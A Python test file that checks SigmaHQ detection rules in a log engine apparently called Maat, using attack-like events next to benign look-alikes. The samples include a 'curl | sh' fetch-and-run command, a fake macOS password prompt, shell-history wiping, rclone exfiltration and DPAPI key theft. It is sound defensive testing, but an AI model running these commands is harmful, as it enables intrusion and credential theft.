"""SigmaHQ's Linux auditd, Linux keyword and web-proxy rules run on Maat's events: raw
audit.log (records of one audit event joined), Zeek http and web access logs. Each case is
an attack the real rule is written for, next to the benign look-alike it must not flag."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from eslogger_kit import exec_line
from maat.detect.sigma import Engine, load_rules
from maat.services.detection import load_rule_files
from maat.telemetry.pipeline import parse_bytes
from telemetry_kit import SHARED, sigma_engine

RULES = SHARED / "sigma" / "rules"


def _engine(*relative: str) -> Engine:
    engine: Engine = sigma_engine(RULES, *relative)
    return engine


def _titles(engine: Engine, data: bytes, path: str) -> list[str]:
    outcome = parse_bytes(data, path=path, received="2026-11-26T00:00:00Z", max_event_bytes=65536)
    assert outcome.errors == []
    return [hit.rule.title for event in outcome.events for hit in engine.match(event)]


def _audit(seq: int, *records: str) -> bytes:
    stamp = f"msg=audit(1764115200.{seq:03d}:{seq})"
    lines = [r.replace("msg=audit()", stamp) for r in records]
    lines.append(f"type=EOE {stamp}: ")
    return "\n".join(lines).encode() + b"\n"


SYSCALL = ("type=SYSCALL msg=audit(): arch=c000003e syscall=59 success=yes exit=0 ppid=900 "
           "pid=901 auid=1000 uid=1000 gid=1000 euid=1000 ses=3 comm=\"{comm}\" "
           "exe=\"{exe}\" key=\"exec\"")  # fmt: skip


def test_audio_capture_by_arecord_on_a_linux_server_is_caught_from_auditd() -> None:
    engine = _engine("linux/auditd/lnx_auditd_audio_capture.yml")
    capture = _audit(1, SYSCALL.format(comm="arecord", exe="/usr/bin/arecord"),
                     'type=EXECVE msg=audit(): argc=3 a0="arecord" a1="-vv" a2="-fdat"')  # fmt: skip
    playback = _audit(2, SYSCALL.format(comm="arecord", exe="/usr/bin/arecord"),
                      'type=EXECVE msg=audit(): argc=2 a0="arecord" a1="-l"')  # fmt: skip
    assert _titles(engine, capture + playback, "audit.log") == ["Audio Capture"]


def test_changes_to_the_audit_configuration_and_new_systemd_units_are_caught() -> None:
    engine = _engine("linux/auditd/path/lnx_auditd_auditing_config_change.yml",
                     "linux/auditd/path/lnx_auditd_systemd_service_creation.yml")  # fmt: skip
    open_write = SYSCALL.format(comm="vi", exe="/usr/bin/vi").replace("syscall=59", "syscall=257")
    tamper = _audit(3, open_write,
                    'type=PATH msg=audit(): item=0 name="/etc/audit/" nametype=PARENT',
                    'type=PATH msg=audit(): item=1 name="/etc/audit/auditd.conf" nametype=NORMAL')  # fmt: skip
    unit = _audit(4, open_write,
                  'type=PATH msg=audit(): item=0 name="/etc/systemd/system/" nametype=PARENT',
                  'type=PATH msg=audit(): item=1 name="/etc/systemd/system/frpc.service" '
                  "nametype=CREATE")  # fmt: skip
    benign = _audit(5, open_write,
                    'type=PATH msg=audit(): item=0 name="/home/dev/notes.txt" nametype=NORMAL')  # fmt: skip
    assert _titles(engine, tamper, "audit.log") == ["Auditing Configuration Changes on Linux Host"]
    assert _titles(engine, unit, "audit.log") == ["Systemd Service Creation"]
    assert _titles(engine, benign, "audit.log") == []


def test_the_firewall_stopped_on_a_linux_host_is_caught_from_a_service_stop_record() -> None:
    engine = _engine("linux/auditd/service_stop/lnx_auditd_disable_system_firewall.yml")
    stop = ("type=SERVICE_STOP msg=audit(1764115201.000:9): pid=1 uid=0 auid=4294967295 "
            "ses=4294967295 msg='unit=firewalld comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" "
            "hostname=? addr=? terminal=? res=success'\n")  # fmt: skip
    cron = stop.replace("firewalld", "cron").replace(":9)", ":10)")
    assert _titles(engine, (stop + cron).encode(), "audit.log") == ["Disable System Firewall"]


def test_clearing_shell_history_is_caught_by_the_linux_keyword_rule() -> None:
    engine = _engine("linux/builtin/lnx_shell_clear_cmd_history.yml")
    wipe = _audit(11, SYSCALL.format(comm="bash", exe="/usr/bin/bash"),
                  'type=EXECVE msg=audit(): argc=3 a0="bash" a1="-c" a2="history -c"')  # fmt: skip
    listing = _audit(12, SYSCALL.format(comm="ls", exe="/usr/bin/ls"),
                     'type=EXECVE msg=audit(): argc=2 a0="ls" a1="-la"')  # fmt: skip
    assert _titles(engine, wipe + listing, "audit.log") == ["Linux Command History Tampering"]


def test_rclone_exfiltration_and_scripts_from_suspicious_tlds_are_caught_in_zeek_http() -> None:
    engine = _engine("web/proxy_generic/proxy_ua_rclone.yml",
                     "web/proxy_generic/proxy_download_susp_tlds_blacklist.yml")  # fmt: skip

    def http(uid: str, host: str, uri: str, agent: str, target: str = "45.121.50.185") -> bytes:
        return json.dumps({"ts": 1764115200.0, "uid": uid, "id.orig_h": "10.20.1.10",
                           "id.orig_p": 50000, "id.resp_h": target, "id.resp_p": 80,
                           "method": "GET", "host": host, "uri": uri, "user_agent": agent,
                           "status_code": 200, "_path": "http"}).encode()  # fmt: skip

    rclone = http("C1", "drop.example", "/upload/cap0001.png", "rclone/v1.66.0")
    stage2 = http("C2", "cdn.update.top", "/stage2.ps1", "Mozilla/5.0")
    benign = http("C3", "intranet.example", "/setup.ps1", "Mozilla/5.0", "10.30.1.13")
    titles = _titles(engine, b"\n".join([rclone, stage2, benign]), "http.log")
    assert titles == ["Rclone Activity via Proxy", "Download From Suspicious TLD - Blacklist"]


def test_proxy_rules_do_not_judge_a_web_servers_inbound_requests() -> None:
    """An access log is a server's inbound requests, with no destination for the rules'
    "not a private address" filters: a scanner's request is not our desk downloading."""
    engine = _engine("web/proxy_generic/proxy_download_susp_tlds_blacklist.yml")
    inbound = {"time_iso8601": "2026-11-26T00:00:02+00:00", "remote_addr": "198.51.100.4",
               "request": "GET http://cdn.update.top/stage2.ps1 HTTP/1.1", "status": 404,
               "http_user_agent": "Mozilla/5.0"}  # fmt: skip
    assert _titles(engine, json.dumps(inbound).encode(), "access.log") == []


def test_clearing_the_kernel_ring_buffer_is_caught_from_the_syscall_arguments() -> None:
    """No EXECVE record: a0..a3 are the syslog call's own (hex in audit.log)."""
    engine = _engine("linux/auditd/syscall/lnx_auditd_clean_disable_dmesg_logs_via_syslog.yml")

    def syslog(seq: int, action: str) -> bytes:
        return _audit(seq, f"type=SYSCALL msg=audit(): arch=c000003e syscall=103 success=yes "
                           f"exit=0 a0={action} a1=0 a2=0 a3=0 ppid=1 pid=77 auid=0 uid=0 "
                           'gid=0 euid=0 comm="dmesg" exe="/usr/bin/dmesg" key="dmesg"')  # fmt: skip

    assert _titles(engine, syslog(21, "5") + syslog(22, "3"), "audit.log") == [
        "Clear or Disable Kernel Ring Buffer Logs via Syslog Syscall"
    ]


def test_every_auditd_and_proxy_rule_of_sigmahq_now_has_a_route() -> None:
    paths = [RULES / "linux" / "auditd", RULES / "web" / "proxy_generic"]
    if not all(p.exists() for p in paths):
        pytest.skip(f"{RULES} is absent (see shared/data/SOURCES.md)")
    engine = load_rule_files(paths)[1]
    assert [p for p in engine.problems if "no Maat log source for" in p.reason] == []
    # A rule reading a field no HTTP log here has is reported, not run to never match.
    assert [(Path(p.path).name, p.reason.rsplit(": ", 1)[-1]) for p in engine.problems] == [
        ("proxy_hktl_cobalt_strike_malleable_c2_requests.yml", "http/proxy has no cs-cookie")
    ]
    assert len(engine.rules) > 60


def test_dcom_lateral_movement_is_caught_from_the_rpc_firewall_event_log() -> None:
    engine = _engine("application/rpc_firewall/rpc_firewall_remote_dcom_or_wmi.yml")

    def rpcfw(event_id: int, interface: str) -> bytes:
        return json.dumps({"@timestamp": "2026-11-26T00:00:00.000Z", "EventID": event_id,
                           "Channel": "RPCFW", "SourceName": "RPCFW", "Hostname": "ENG-WS05",
                           "InterfaceUuid": interface, "OpNum": "3",
                           "SourceNetworkAddress": "10.20.1.10"}).encode()  # fmt: skip

    dcom = rpcfw(3, "4d9f4ab8-7d1c-11cf-861e-0020af6e7c57")
    other_interface = rpcfw(3, "12345778-1234-abcd-ef00-0123456789ab")
    other_event = rpcfw(1, "4d9f4ab8-7d1c-11cf-861e-0020af6e7c57")
    assert _titles(engine, b"\n".join([dcom, other_interface, other_event]), "rpcfw.json") == [
        "Remote DCOM/WMI Lateral Movement"
    ]


def test_a_fake_password_prompt_on_a_developers_mac_is_caught_from_osquery() -> None:
    """osquery's EndpointSecurity table on macOS: a process start is judged by SigmaHQ's
    macOS rules (and a fork, which starts no new program, is not)."""
    engine = _engine("macos/process_creation/proc_creation_macos_gui_input_capture.yml")

    def row(event_type: str, cmdline: str) -> bytes:
        return json.dumps({
            "name": "es_process_events", "hostIdentifier": "dev-mbp-07",
            "unixTime": 1764115200, "action": "added",
            "columns": {"pid": "4242", "parent": "4200", "path": "/usr/bin/osascript",
                        "cmdline": cmdline, "event_type": event_type, "cdhash": "ab12",
                        "signing_id": "com.apple.osascript", "platform_binary": "1",
                        "username": "dev", "time": "1764115200"},
        }).encode()  # fmt: skip

    prompt = ('osascript -e display dialog "macOS needs your password to unlock" '
              "default answer \"\" with hidden answer")  # fmt: skip
    lines = [row("exec", prompt), row("fork", prompt), row("exec", "osascript -e 'beep'")]
    assert _titles(engine, b"\n".join(lines), "osquery.log") == ["GUI Input Capture - macOS"]


def test_macos_rules_read_the_user_and_narrow_endpoint_security_queries() -> None:
    """A rule on the user runs (es_process_events' username), and a query selecting only
    pid, path, cmdline, event_type and time is still known for macOS: its forks are not
    starts."""
    text = ("title: root osascript\nlogsource: {product: macos, category: process_creation}\n"
            "detection:\n  sel:\n    Image|endswith: /osascript\n    User: root\n"
            "  condition: sel\n")  # fmt: skip
    engine = Engine(load_rules([("root.yml", text)]))
    assert engine.problems == []

    def row(event_type: str, user: str | None) -> bytes:
        columns = {"pid": "9", "path": "/usr/bin/osascript", "cmdline": "osascript -e x",
                   "event_type": event_type, "time": "1764115200"}  # fmt: skip
        if user is not None:
            columns["username"] = user
        return json.dumps({"name": "es", "hostIdentifier": "mbp", "unixTime": 1764115200,
                           "action": "added", "columns": columns}).encode()  # fmt: skip

    lines = [row("exec", "root"), row("exec", "dev"), row("fork", "root")]
    assert _titles(engine, b"\n".join(lines), "osquery.log") == ["root osascript"]


def test_a_dpapi_master_key_read_by_an_unknown_tool_is_caught_from_object_access_auditing() -> None:
    """SigmaHQ's file_access rules (written for Kernel-File ETW) run on Security 4663."""
    engine = _engine("windows/file/file_access/file_access_win_susp_dpapi_master_key_access.yml")

    def access(process: str, name: str, kind: str = "File") -> bytes:
        return json.dumps({"@timestamp": "2026-11-26T00:00:00.000Z", "EventID": 4663,
                           "Channel": "Security", "SourceName": "Microsoft-Windows-Security-"
                           "Auditing", "Hostname": "OFF-WS01", "ObjectType": kind,
                           "ObjectName": name, "ProcessName": process,
                           "AccessMask": "0x1"}).encode()  # fmt: skip

    key = "C:\\Users\\bo.huang\\AppData\\Roaming\\Microsoft\\Protect\\S-1-5-21-1004-1105\\a1b2"
    stolen = access("C:\\Users\\bo.huang\\AppData\\Local\\Temp\\ErpUpdate\\winword.exe", key)
    system = access("C:\\Windows\\System32\\lsass.exe", key)
    other = access("C:\\Users\\bo.huang\\AppData\\Local\\Temp\\x.exe", "C:\\Temp\\notes.txt")
    # 4663 also audits registry keys: a key's access is no file access.
    key_access = access("C:\\Temp\\x.exe", key, kind="Key")
    assert _titles(engine, b"\n".join([stolen, system, other, key_access]), "s.json") == [
        "Access To Windows DPAPI Master Keys By Uncommon Applications"
    ]


def test_a_startup_item_written_on_a_mac_is_caught_from_endpoint_security_file_events() -> None:
    """osquery's es_process_file_events: a file created or renamed into place is judged by
    SigmaHQ's macOS file_event rules; a read of the same path is not."""
    engine = _engine("macos/file_event/file_event_macos_susp_startup_item_created.yml")

    def row(event_type: str, filename: str, dest: str = "") -> bytes:
        return json.dumps({
            "name": "es_process_file_events", "hostIdentifier": "dev-mbp-07",
            "unixTime": 1764115200, "action": "added",
            "columns": {"pid": "4242", "parent": "1", "path": "/Users/Shared/.agent/agent",
                        "filename": filename, "dest_filename": dest,
                        "event_type": event_type, "time": "1764115200"},
        }).encode()  # fmt: skip

    item = "/Library/StartupItems/Updater/StartupParameters.plist"
    created = row("create", item)
    renamed = row("rename", "/Users/Shared/x.plist", item)
    read = row("open", item)
    other = row("create", "/Users/dev/notes.plist")
    assert _titles(engine, created, "osquery.log") == ["Startup Item File Created - MacOS"]
    assert _titles(engine, renamed, "osquery.log") == ["Startup Item File Created - MacOS"]
    assert _titles(engine, read + b"\n" + other, "osquery.log") == []


def test_a_shell_started_by_a_browser_or_jamf_on_a_mac_is_caught_from_eslogger() -> None:
    """Apple's eslogger names the image that ran the exec (the parent's): SigmaHQ's macOS
    rules on ParentImage run on it; osquery's starts, which lack it, do not run them."""
    engine = _engine(
        "macos/process_creation/proc_creation_macos_susp_browser_child_process.yml",
        "macos/process_creation/proc_creation_macos_jamf_susp_child.yml",
        "macos/process_creation/proc_creation_macos_office_susp_child_processes.yml",
    )
    assert engine.problems == []
    chrome = "/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Helper"
    word = "/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word"
    lines = [
        exec_line(chrome, "/bin/sh", ["sh", "-c", "curl -s http://198.51.100.7/a | sh"]),
        exec_line("/usr/local/jamf/bin/jamf", "/bin/bash", ["bash", "-c", "id"]),
        exec_line(word, "/usr/bin/curl", ["curl", "-o", "/Users/Shared/p", "http://x"]),
        # Look-alikes: a shell started by a terminal, Chrome starting its own helper, and
        # Chrome's own installer script (the rule's filter).
        exec_line(
            "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal",
            "/bin/zsh",
            ["zsh", "-l"],
        ),
        exec_line(chrome, chrome, [chrome, "--type=renderer"]),
        exec_line(
            chrome,
            "/bin/sh",
            [
                "sh",
                "/Volumes/Google Chrome/Google Chrome.app/"
                "Contents/Frameworks/x/Resources/install.sh",
            ],
        ),
    ]
    assert _titles(engine, b"\n".join(lines), "es.jsonl") == [
        "Suspicious Browser Child Process - MacOS",
        "JAMF MDM Potential Suspicious Child Process",
        "Suspicious Microsoft Office Child Process - MacOS",
    ]


def test_rules_without_parent_image_run_once_on_an_eslogger_start() -> None:
    """A start from eslogger has both macOS process route keys; a rule not reading the
    parent runs on one of them only (no duplicate alert)."""
    engine = _engine("macos/process_creation/proc_creation_macos_gui_input_capture.yml")
    prompt = ["osascript", "-e", 'display dialog "macOS needs your password" default answer '
              '"" with hidden answer']  # fmt: skip
    line = exec_line("/bin/zsh", "/usr/bin/osascript", prompt)
    assert _titles(engine, line, "es.jsonl") == ["GUI Input Capture - macOS"]
